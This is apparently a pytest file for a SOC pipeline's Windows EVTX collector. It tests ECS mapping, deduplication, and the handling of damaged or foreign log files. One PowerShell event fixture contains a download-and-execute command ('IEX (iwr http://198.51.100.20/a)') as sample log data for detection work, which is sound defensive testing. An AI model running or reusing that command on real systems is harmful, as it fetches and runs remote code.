"""collectors/evtx.py: EVTX files to ECS records, their identity, and damaged or foreign files."""

from __future__ import annotations

import base64
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest

from collectors.evtx import EvtxFileError, evtx_to_ecs, read_evtx
from soc.events import EventNormaliser, RawRecord, file_event_id
from soc.inventory import load_inventory
from soc.pipeline import Pipeline
from soc.store import Collection, Query, open_store
from soc.timeutil import load_zone
from tests.conftest import ROOT

SAMPLE = ROOT / "tests" / "data" / "evtx" / "TestLogX.evtx"
SOURCE = "winlog:desktop-pjoqljs/testlogx"
NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
# Where the sample's records start and end in the file (one chunk at 4096, records from 4608).
RECORD_3 = (6480, 6736)


def read(path: Path, limit: int = 1 << 20) -> list[RawRecord]:
    return list(read_evtx(path, limit, observer="test"))


def damaged(tmp_path: Path, offset: int, data: bytes = b"", cut: int | None = None) -> Path:
    content = bytearray(SAMPLE.read_bytes())
    content[offset:offset + len(data)] = data
    path = tmp_path / "damaged.evtx"
    path.write_bytes(bytes(content[:cut]))
    return path


def test_every_record_of_the_sample() -> None:
    records = read(SAMPLE)
    assert [(r.source, r.position, r.error) for r in records] == [
        (SOURCE, n, None) for n in range(1, 6)]
    fields = [r.fields or {} for r in records]
    assert [f["winlog.event_id"] for f in fields] == [1, 2, 3, 65534, 5]
    assert [f["winlog.event_data.param1"] for f in fields] == [
        "Test log message, information", "Test log message, error",
        "Test log message, warning", "Test log message, failure audit",
        "Test log message, success audit"]
    assert [f["log.level"] for f in fields] == [
        "information", "error", "warning", "information", "information"]
    assert [f.get("event.outcome") for f in fields] == [None, None, None, "failure", "success"]
    assert fields[3] == {
        "@timestamp": "2021-07-22T15:50:23.212521Z", "winlog.event_id": 65534,
        "event.code": "65534", "winlog.channel": "TestLogX", "event.dataset": "windows.testlogx",
        "winlog.provider_name": "TestAppX", "event.provider": "TestAppX",
        "winlog.computer_name": "DESKTOP-PJOQLJS", "host.name": "DESKTOP-PJOQLJS",
        "winlog.record_id": 4, "winlog.task": "99", "winlog.opcode": "0", "winlog.version": 0,
        "winlog.keywords": ["Audit Failure", "Classic"], "event.outcome": "failure",
        "log.level": "information", "winlog.event_data.param1": "Test log message, failure audit",
        "winlog.event_data.Binary":
            "54006500730074002000420069006E0061007200790020004400610074006100"}
    assert fields[0]["winlog.event_data.Binary"] == ""
    assert records[0].extra == {"log.file.path": str(SAMPLE.resolve()), "observer.name": "test",
                                "observer.type": "file"}
    assert records[0].timestamp_required and not records[0].keep_original
    assert orjson.loads(records[0].raw)["Event"]["System"]["EventRecordID"] == 1


def test_normalised_in_utc_with_ids_from_log_and_record_id() -> None:
    normaliser = EventNormaliser(load_zone("Asia/Ho_Chi_Minh"), timedelta(days=1))
    events = [normaliser.normalise(r, now=NOW) for r in read(SAMPLE)]
    assert [e["@timestamp"] for e in events] == [
        "2021-07-22T15:44:21.416718Z", "2021-07-22T15:45:44.663880Z",
        "2021-07-22T15:46:15.976279Z", "2021-07-22T15:50:23.212521Z",
        "2021-07-22T15:50:23.212521Z"]
    assert events[0]["event.id"] == file_event_id(
        SOURCE, 1, datetime(2021, 7, 22, 15, 44, 21, 416718, tzinfo=UTC))
    assert len({e["event.id"] for e in events}) == 5
    assert events[0]["log.offset"] == 1 and "log.original" not in events[0]
    assert events[3]["event.kind"] == "event" and events[3]["observer.name"] == "test"


def pipeline(tmp_path: Path) -> Pipeline:
    return Pipeline(open_store(f"sqlite:///{tmp_path / 'soc.db'}"),
                    EventNormaliser(load_zone("Asia/Ho_Chi_Minh"), timedelta(days=1)),
                    load_inventory(ROOT / "inventory.yaml"), batch_size=2)


def test_a_copy_renamed_or_grown_log_stores_nothing_twice(tmp_path: Path) -> None:
    pipe = pipeline(tmp_path)
    first = pipe.run(read_evtx(SAMPLE, 1 << 20))
    assert (first.read, first.stored, first.duplicates) == (5, 5, 0)
    copy = tmp_path / "Archive-TestLogX-2021-07-23.evtx"
    shutil.copyfile(SAMPLE, copy)
    again = pipe.run(read_evtx(copy, 1 << 20))
    assert (again.read, again.stored, again.duplicates) == (5, 0, 5)
    # The same log with a second chunk (as the file grows): only the new records are new.
    grown = tmp_path / "grown.evtx"
    sample = SAMPLE.read_bytes()
    chunk = bytearray(sample[4096:])
    for record_id, start in ((1, 512), (2, 2128), (3, 2384), (4, 2640), (5, 2944)):
        chunk[start + 8:start + 16] = (record_id + 5).to_bytes(8, "little")
    grown.write_bytes(sample + bytes(chunk) + bytes(65536))  # and an unused, zeroed chunk
    records = read(grown)
    assert [(r.position, r.error) for r in records] == [(n, None) for n in range(1, 11)]
    more = pipe.run(iter(records))
    assert (more.read, more.stored, more.duplicates) == (10, 5, 5)
    pipe.store.close()


def test_a_record_that_fails_to_parse_is_dead_lettered_and_the_rest_land(
        tmp_path: Path) -> None:
    path = damaged(tmp_path, RECORD_3[0] + 24, b"\xff" * 6)
    records = read(path)
    assert [(r.position, r.error is None) for r in records] == [
        (1, True), (2, True), (3, False), (4, True), (5, True)]
    bad = records[2]
    assert bad.error == ("record 3: Failed to parse record number 3: Offset 0x00000969: Tried "
                         "to read an invalid byte `0xff` as binxml token")
    assert bad.raw == path.read_bytes()[RECORD_3[0]:RECORD_3[1]]
    assert bad.source == SOURCE
    pipe = pipeline(tmp_path)
    summary = pipe.run(read_evtx(path, 1 << 20))
    assert (summary.stored, summary.dead_lettered, dict(summary.reasons)) == (4, 1, {"parse": 1})
    letter: dict[str, Any] = pipe.store.search(Collection.DEAD_LETTERS, Query()).items[0]
    assert letter["error.message"] == bad.error
    assert letter["log.file.path"] == str(path.resolve())
    assert base64.b64decode(letter["dead_letter.raw_base64"]) == bad.raw
    pipe.store.close()


def test_records_after_a_broken_record_header_are_reported_not_lost(tmp_path: Path) -> None:
    path = damaged(tmp_path, RECORD_3[0], b"XXXX")
    records = read(path)
    assert [(r.position, r.error) for r in records] == [
        (1, None), (2, None),
        (3, "records 3-5 of chunk 0 (file offset 4096) cannot be read: no record signature at "
            "chunk offset 2384")]
    assert records[2].raw == path.read_bytes()[RECORD_3[0]:]


def test_records_a_damaged_chunk_header_hides_are_reported(tmp_path: Path) -> None:
    # The chunk's free space offset (chunk offset 48) moved back to the end of record 3.
    path = damaged(tmp_path, 4096 + 48, (RECORD_3[1] - 4096).to_bytes(4, "little"))
    assert [(r.position, r.error) for r in read(path)] == [
        (1, None), (2, None), (3, None),
        (4, "records 4-5 of chunk 0 (file offset 4096) cannot be read: the chunk header counts "
            "them, but its records end at offset 2640")]


def test_a_truncated_file_keeps_its_whole_records(tmp_path: Path) -> None:
    path = damaged(tmp_path, 0, cut=RECORD_3[0] + 120)
    records = read(path)
    assert [(r.source, r.position, r.error) for r in records] == [
        (SOURCE, 1, None), (SOURCE, 2, None),
        (SOURCE, 3, "record 3 is cut off: the file ends 120 bytes into its 256 (truncated file)"),
        (SOURCE, 4, "records 4-5 of chunk 0 (file offset 4096) cannot be read: the file ends "
                    "before them (truncated file)")]
    assert records[2].raw == SAMPLE.read_bytes()[RECORD_3[0]:RECORD_3[0] + 120]


def test_a_file_cut_in_a_chunk_header_or_a_bad_chunk_is_one_error(tmp_path: Path) -> None:
    cut = read(damaged(tmp_path, 0, cut=4096 + 100))
    real = str((tmp_path / "damaged.evtx").resolve())
    assert [(r.source, r.position, r.error) for r in cut] == [
        (f"file:{real}", "chunk 0",
         "chunk 0 (file offset 4096): cut off by the end of the file; its records are lost")]
    foreign = read(damaged(tmp_path, 4096, b"NotChnk\x00"))
    assert [(r.position, r.error, len(r.raw)) for r in foreign] == [
        ("chunk 0", "chunk 0 (file offset 4096): no chunk signature; its records are lost",
         65536)]


def test_oversized_records_are_reported(tmp_path: Path) -> None:
    records = read(SAMPLE, limit=600)
    assert [r.error for r in records] == [
        None, None, None,
        "record of 655 bytes exceeds pipeline.max_record_bytes (600); first 600 bytes kept",
        "record of 650 bytes exceeds pipeline.max_record_bytes (600); first 600 bytes kept"]
    assert len(records[3].raw) == 600


@pytest.mark.parametrize(("content", "reason"), [
    (b"Nov 22 10:00:01 web01 sshd[811]: Accepted password for root\n" * 100,
     "not an EVTX file (it does not start with the ElfFile signature)"),
    (b"", "not an EVTX file (it does not start with the ElfFile signature)"),
    (SAMPLE.read_bytes()[:2000], "EVTX file cut off inside its header (2000 of 4096 bytes): "
                                 "no records"),
])
def test_a_file_that_is_not_evtx_is_an_os_error_naming_it(
        tmp_path: Path, content: bytes, reason: str) -> None:
    path = tmp_path / "Security.evtx"
    path.write_bytes(content)
    with pytest.raises(EvtxFileError) as caught:
        read(path)
    assert isinstance(caught.value, OSError)
    assert caught.value.strerror == reason
    assert caught.value.filename == str(path)
    assert str(path) in str(caught.value)


def test_a_missing_file_is_an_os_error(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        read(tmp_path / "absent.evtx")


def test_security_records_as_the_evtx_package_renders_them() -> None:
    logon = evtx_to_ecs({"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing",
                                         "Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"}},
            "EventID": 4624, "Version": 2, "Level": 0, "Task": 12544, "Opcode": 0,
            "Keywords": "0x8020000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": "2026-11-22T01:02:03.456789Z"}},
            "EventRecordID": 170233,
            "Correlation": {
                "#attributes": {"ActivityID": "{b1e2c3d4-0000-0000-0000-000000000000}"}},
            "Execution": {"#attributes": {"ProcessID": 668, "ThreadID": 5124}},
            "Channel": "Security", "Computer": "DC01.sotn.gov.vn", "Security": None},
        "EventData": {
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": "DC01$", "SubjectLogonId": "0x3e7",
            "TargetUserSid": "S-1-5-21-1-2-3-1107", "TargetUserName": "tranthib",
            "TargetDomainName": "SOTN", "TargetLogonId": "0x8b2f31", "LogonType": 3,
            "WorkstationName": None, "IpAddress": "10.45.101.23", "IpPort": 50112,
            "ProcessId": "0x0", "ProcessName": "-", "ElevatedToken": "%%1843"}}})
    expected = {
        "@timestamp": "2026-11-22T01:02:03.456789Z", "winlog.event_id": 4624,
        "winlog.record_id": 170233, "winlog.task": "12544", "winlog.version": 2,
        "winlog.keywords": ["Audit Success"], "event.outcome": "success",
        "winlog.provider_guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}",
        "winlog.activity_id": "{b1e2c3d4-0000-0000-0000-000000000000}",
        "winlog.process.pid": 668, "winlog.process.thread.id": 5124,
        "host.name": "DC01.sotn.gov.vn", "event.dataset": "windows.security",
        "event.action": "logged-in", "user.name": "tranthib", "user.domain": "SOTN",
        "source.ip": "10.45.101.23", "source.port": 50112, "source.domain": None,
        "winlog.logon.type": "Network", "winlog.logon.id": "0x8b2f31",
        # Typed BinXML values are written as their XML text, as Winlogbeat writes them.
        "winlog.event_data.LogonType": "3", "winlog.event_data.IpPort": "50112",
        "winlog.event_data.WorkstationName": "", "winlog.user.identifier": None,
    }
    assert {key: logon.get(key) for key in expected} == expected
    cleared = evtx_to_ecs({"Event": {
        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog"}},
                   "EventID": 1102, "Channel": "Security", "Computer": "DC01.sotn.gov.vn",
                   "EventRecordID": 170300, "Security": {"#attributes": {"UserID": "S-1-5-18"}},
                   "TimeCreated": {"#attributes": {"SystemTime": "2026-11-22T01:10:00Z"}}},
        "UserData": {"LogFileCleared": {
            "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/"
                                     "eventlog"},
            "SubjectUserSid": "S-1-5-21-1-2-3-500", "SubjectUserName": "admin.sotn",
            "SubjectDomainName": "SOTN", "SubjectLogonId": "0x8c01"}}}})
    assert {key: cleared.get(key) for key in (
        "winlog.user_data.xml_name", "winlog.user_data.SubjectUserName", "user.name",
        "event.action", "winlog.user.identifier")} == {
        "winlog.user_data.xml_name": "LogFileCleared",
        "winlog.user_data.SubjectUserName": "admin.sotn", "user.name": "admin.sotn",
        "event.action": "audit-log-cleared", "winlog.user.identifier": "S-1-5-18"}


ENGINE_400 = ("\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n"
              "\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=2.0\r\n"
              "\tHostId=8d4a0c3e-7d7a-4a8e-9b61-0a8e5f5b2c11\r\n"
              "\tHostApplication=powershell.exe -Version 2 -nop -c IEX (iwr http://198.51.100.20/a)"
              "\r\n\tEngineVersion=2.0\r\n\tRunspaceId=3f9e1c22-61a7-4e0b-8d3e-5d0f3b6e7a44\r\n"
              "\tPipelineId=\r\n\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n"
              "\tCommandPath=\r\n\tCommandLine=")


def test_classic_powershell_records_as_the_evtx_package_renders_them() -> None:
    """Windows PowerShell's events hold their fields in unnamed <Data> elements (param1-3 here,
    as Winlogbeat names them); the third is Key=Value lines."""
    started = evtx_to_ecs({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "PowerShell"}},
            "EventID": {"#attributes": {"Qualifiers": 0}, "#text": 400}, "Version": 0,
            "Level": 4, "Task": 4, "Opcode": 0, "Keywords": "0x80000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": "2026-11-22T02:19:58.120000Z"}},
            "EventRecordID": 5012, "Channel": "Windows PowerShell",
            "Computer": "ws-tn-015.sotn.gov.vn", "Security": None},
        "EventData": {"Data": {"#text": ["Available", "None", ENGINE_400]}, "Binary": None}}})
    expected = {
        "event.dataset": "windows.windows_powershell", "event.code": "400",
        "winlog.provider_name": "PowerShell", "winlog.keywords": ["Classic"],
        "event.category": ["process"], "event.type": ["start"], "event.action": None,
        "winlog.event_data.param1": "Available", "winlog.event_data.param3": ENGINE_400,
        "winlog.event_data.Data": ["Available", "None", ENGINE_400],
        "process.command_line": "powershell.exe -Version 2 -nop -c IEX "
                                "(iwr http://198.51.100.20/a)",
        "process.title": "ConsoleHost",
        "process.entity_id": "8d4a0c3e-7d7a-4a8e-9b61-0a8e5f5b2c11",
        "powershell.engine.version": "2.0", "powershell.engine.new_state": "Available",
        "powershell.engine.previous_state": "None",
        "powershell.process.executable_version": "2.0",
        "powershell.runspace_id": "3f9e1c22-61a7-4e0b-8d3e-5d0f3b6e7a44",
        "powershell.pipeline_id": None, "powershell.command.value": None,
        "event.sequence": 13, "file.path": None,
    }
    assert {key: started.get(key) for key in expected} == expected
